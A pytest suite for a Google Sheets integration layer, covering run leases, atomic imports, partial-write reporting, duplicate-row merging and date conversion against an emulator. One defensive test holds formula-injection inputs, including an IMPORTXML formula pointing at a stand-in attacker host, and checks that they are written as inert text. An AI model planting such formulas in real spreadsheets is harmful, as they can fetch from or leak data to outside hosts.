"""The Google store under stress: the lease, atomic imports, truthful partial writes, RAW cells, duplicate rows."""

from __future__ import annotations

import datetime as dt
import threading
import time
from collections.abc import Callable
from typing import Any

import pandas as pd
import pytest
import requests
from conftest import TODAY, load_spreadsheet
from hypothesis import given, settings
from hypothesis import strategies as st

from sheets_bridge import contract
from sheets_bridge.exceptions import PartialWriteError, SheetsBridgeError
from sheets_bridge.service.actions import import_export, score
from sheets_bridge.store.align import sheet_value, sheet_values
from sheets_bridge.store.base import Store
from sheets_bridge.store.google import sheets as gsheets
from sheets_bridge.store.google.lease import LeaseExpiredError, RunInProgressError
from sheets_bridge.store.google.sheets import GoogleStore
from sheets_emulator import control

HEADER = ["Referring page URL", "Referring page title", "Domain rating", "Nofollow"]
TABS: dict[str, list[list[Any]]] = {
    "Settings": [["Your domain", "mine.com"], ["Topic keywords", "crm"]],
    "rival-a.com": [HEADER, ["https://alpha.com/resources", "CRM resources", 40, "false"],
                    ["https://beta.co.uk/best-crm", "Best CRM tools", 55, "false"],
                    ["https://gamma.de/x", "x", 20, "false"]],
}
INSPECT = {"Authorization": "Bearer inspector"}


def _dump(url: str, book: str) -> dict[str, Any]:
    return dict(requests.get(f"{url}/_emulator/spreadsheets/{book}", timeout=5).json())


def _values(url: str, book: str, tab: str, render: str = "UNFORMATTED_VALUE") -> list[list[Any]]:
    body = requests.get(f"{url}/v4/spreadsheets/{book}/values/'{tab}'", headers=INSPECT,
                        params={"valueRenderOption": render}, timeout=5).json()
    return list(body.get("values", []))


def test_a_held_spreadsheet_refuses_a_second_store_until_released(google_env: str) -> None:
    book = load_spreadsheet(google_env, TABS)
    first, second = GoogleStore(book), GoogleStore(book)
    with first.hold("ana@example.com", "Score prospects"):
        with pytest.raises(RunInProgressError, match=r"ana@example\.com started 'Score prospects'"), \
                second.hold("bo@example.com", "Import export file"):
            pass
        leases = [m for m in _dump(google_env, book)["developerMetadata"]
                  if m["metadataKey"] == "sheets_bridge.lease"]
        assert len(leases) == 1  # the refused store deleted its own
    assert _dump(google_env, book).get("developerMetadata", []) == []
    with second.hold("bo@example.com", "Import export file"):
        pass


def test_an_expired_lease_frees_the_spreadsheet_and_a_run_past_its_lease_writes_nothing(google_env: str) -> None:
    book = load_spreadsheet(google_env, TABS)
    killed = GoogleStore(book)
    killed.lease_ttl = 4.0
    held = killed.hold("ana@example.com", "Score prospects")
    held.__enter__()  # never released, like a killed process (the reference keeps it from being closed)
    time.sleep(3.2)  # past the moment where two clicks count as simultaneous
    with pytest.raises(RunInProgressError, match="frees itself at"), \
            GoogleStore(book).hold("bo@example.com", "Score prospects"):
        pass
    time.sleep(1.0)
    slow = GoogleStore(book)
    slow.lease_ttl = 1.0
    with slow.hold("bo@example.com", "Score prospects"):
        tabs = slow.read_tabs()
        time.sleep(1.0)
        before = _dump(google_env, book)["sheets"]
        with pytest.raises(LeaseExpiredError, match="nothing more was written"):
            slow.write_prospects(pd.DataFrame({"Domain": ["alpha.com"]}), ["Domain"], ["Status"])
        assert tabs and _dump(google_env, book)["sheets"] == before
    assert _dump(google_env, book).get("developerMetadata", []) == []  # the expired lease was cleaned up
    assert held is not None


def test_simultaneous_holds_let_exactly_one_in(google_env: str) -> None:
    book = load_spreadsheet(google_env, TABS)
    for _ in range(3):
        outcomes: list[str] = []
        barrier = threading.Barrier(2)

        def attempt(user: str, barrier: threading.Barrier = barrier, outcomes: list[str] = outcomes) -> None:
            barrier.wait()
            try:
                with GoogleStore(book).hold(user, "Score prospects"):
                    time.sleep(4.0)
                outcomes.append("ran")
            except RunInProgressError:
                outcomes.append("409")
        threads = [threading.Thread(target=attempt, args=(u,)) for u in ("a@example.com", "b@example.com")]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert sorted(outcomes) == ["409", "ran"]


def test_a_failed_reimport_leaves_the_tab_as_it_was(google_env: str) -> None:
    book = load_spreadsheet(google_env, TABS)
    store = GoogleStore(book)
    before = _values(google_env, book, "rival-a.com")
    too_long = ("Domain,Title\nalpha.com," + "x" * 50_001 + "\n").encode()
    with pytest.raises(SheetsBridgeError, match=r"tab 'rival-a\.com' was left as it was"):
        import_export(store, too_long, "a.csv", "rival-a.com")
    assert _values(google_env, book, "rival-a.com") == before
    control.post(f"{google_env}/_emulator/faults", json={"faults": [
        {"method": "POST", "path": r"/values:batchUpdate$", "status": 503, "rate": 1.0}]}, timeout=5)
    try:
        with pytest.raises(SheetsBridgeError, match="was left as it was") as caught:
            import_export(GoogleStore(book), b"Domain\nomega.com\n", "b.csv", "rival-a.com")
        assert "nothing was written" not in str(caught.value)
    finally:
        control.post(f"{google_env}/_emulator/faults", json={"clear": True}, timeout=5)
    assert _values(google_env, book, "rival-a.com") == before
    titles = [s["properties"]["title"] for s in _dump(google_env, book)["sheets"]]
    assert titles == ["Settings", "rival-a.com"]  # no staging tab left behind
    import_export(GoogleStore(book), b"Domain,DR\nomega.com,7\n", "c.csv", "rival-a.com")
    assert _values(google_env, book, "rival-a.com") == [["Domain", "DR"], ["omega.com", 7]]
    import_export(GoogleStore(book), b"Domain\nnew.com\n", "d.csv", "rival-b.com")
    assert [s["properties"]["title"] for s in _dump(google_env, book)["sheets"]][-1] == "rival-b.com"


def test_a_write_split_by_size_says_how_much_landed(google_env: str, monkeypatch: pytest.MonkeyPatch) -> None:
    book = load_spreadsheet(google_env, TABS)
    monkeypatch.setattr(gsheets, "MAX_PAYLOAD", 200)  # every column its own request
    frame = pd.DataFrame({"Domain": ["alpha.com", "beta.co.uk"], "Why": ["short", "y" * 50_001]})
    with pytest.raises(PartialWriteError, match=r"\d of \d+ parts were written.*run again") as caught:
        GoogleStore(book).write_prospects(frame, ["Domain", "Why"], ["Status"])
    assert "nothing was written" not in str(caught.value)


@pytest.mark.parametrize("text", ['=IMPORTXML("http://evil.example","//a")', "=1+1", "+SUM(A1)", "@cmd"])
def test_owned_cells_that_look_like_formulas_are_written_as_text(
        make_store: Callable[[dict[str, list[list[Any]]]], Store], text: str) -> None:
    store = make_store(dict(TABS))
    frame = pd.DataFrame({"Domain": ["alpha.com"], "Why": [text], "Priority": [0.5]})
    store.write_prospects(frame, ["Domain", "Why", "Priority"], ["Status"])
    rows = store.read_named([contract.PROSPECTS])[contract.PROSPECTS]
    header = [str(h) for h in rows[0]]
    assert rows[1][header.index("Why")] == text and rows[1][header.index("Priority")] == 0.5
    if isinstance(store, GoogleStore):
        url = store.session.api_root
        formula = _values(url, store.spreadsheet_id, contract.PROSPECTS, "FORMULA")
        assert formula[1][header.index("Why")] == text
        cells = [c for s in _dump(url, store.spreadsheet_id)["sheets"] for _, _, c in s["cells"]]
        assert not any("f" in c for c in cells)


def test_duplicate_domains_are_merged_and_no_team_cell_is_lost(google_env: str) -> None:
    book = load_spreadsheet(google_env, TABS)
    store = GoogleStore(book)
    score(store, TODAY)
    rows = _values(google_env, book, contract.PROSPECTS)
    header = rows[0]
    width = len(header)

    def row(domain: str, **team: str) -> list[Any]:
        cells: list[Any] = [""] * width
        cells[header.index("Domain")] = domain
        for name, value in team.items():
            cells[header.index(name)] = value
        return cells
    alpha = next(i for i, r in enumerate(rows) if r and r[0] == "alpha.com") + 1
    requests.put(f"{google_env}/v4/spreadsheets/{book}/values/Prospects!A{alpha}",
                 params={"valueInputOption": "RAW"}, headers=INSPECT,
                 json={"values": [row("alpha.com", Status="Contacted", Notes="first")]}, timeout=5)
    n = len(rows)
    requests.put(f"{google_env}/v4/spreadsheets/{book}/values/Prospects!A{n + 1}",
                 params={"valueInputOption": "RAW"}, headers=INSPECT,
                 json={"values": [row("alpha.com", Status="Placed", Owner="Bo"), row("beta.co.uk", Contact="x@y.z")]},
                 timeout=5)
    summary, _ = score(GoogleStore(book), TODAY)
    after = _values(google_env, book, contract.PROSPECTS)
    head = after[0]
    domains = [r[head.index("Domain")] for r in after[1:] if r]
    assert sorted(domains) == sorted(set(domains)) and {"alpha.com", "beta.co.uk"} <= set(domains)
    by = {r[head.index("Domain")]: dict(zip(head, r, strict=False)) for r in after[1:] if r}
    assert by["alpha.com"]["Status"] == "Contacted" and by["alpha.com"]["Owner"] == "Bo"
    assert "first" in by["alpha.com"]["Notes"] and "'Placed'" in by["alpha.com"]["Notes"]
    assert by["beta.co.uk"]["Contact"] == "x@y.z"
    assert "Merged 2 rows" in by["alpha.com"]["Flags"]
    assert any("merged into one" in w for w in summary.warnings)
    again, _ = score(GoogleStore(book), TODAY)  # nothing left to merge, nothing lost
    assert not any("merged" in w for w in again.warnings)
    assert _values(google_env, book, contract.PROSPECTS)[1:] != [] and "'Placed'" in dict(zip(
        head, next(r for r in _values(google_env, book, contract.PROSPECTS) if r and r[0] == "alpha.com"),
        strict=False))["Notes"]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.none(), st.datetimes(min_value=dt.datetime(1900, 3, 1),
                                                  max_value=dt.datetime(2199, 1, 1))), max_size=8),
       st.lists(st.one_of(st.none(), st.floats(allow_nan=True, allow_infinity=False)), max_size=8),
       st.lists(st.one_of(st.none(), st.text(max_size=5)), max_size=8),
       st.lists(st.integers(-10**9, 10**9), max_size=8))
def test_column_conversion_matches_cell_conversion(stamps: list[dt.datetime | None], floats: list[float | None],
                                                   texts: list[str | None], ints: list[int]) -> None:
    """Whole columns become Sheets values exactly as cell by cell: dates as serials, blanks as ''."""
    columns = [pd.Series(stamps, dtype="datetime64[ns]"), pd.Series(floats, dtype="float64"),
               pd.Series(texts, dtype="str"), pd.Series(ints, dtype="int64"),
               pd.Series([s.date() if s else None for s in stamps], dtype=object)]
    for column in columns:
        assert sheet_values(column) == [sheet_value(v) for v in column.tolist()], column.dtype


def test_dates_become_sheets_serial_numbers() -> None:
    """Sheets counts days from 1899-12-30 (day 0); a time of day is the fraction of 86,400 seconds."""
    day = (dt.date(2026, 11, 26) - dt.date(1899, 12, 30)).days
    column = pd.Series([dt.datetime(2026, 11, 26), dt.datetime(2026, 11, 26, 6), None], dtype="datetime64[ns]")
    assert sheet_values(column) == [day, day + 0.25, ""]
    assert sheet_values(pd.Series([1.5, float("nan")])) == [1.5, ""]
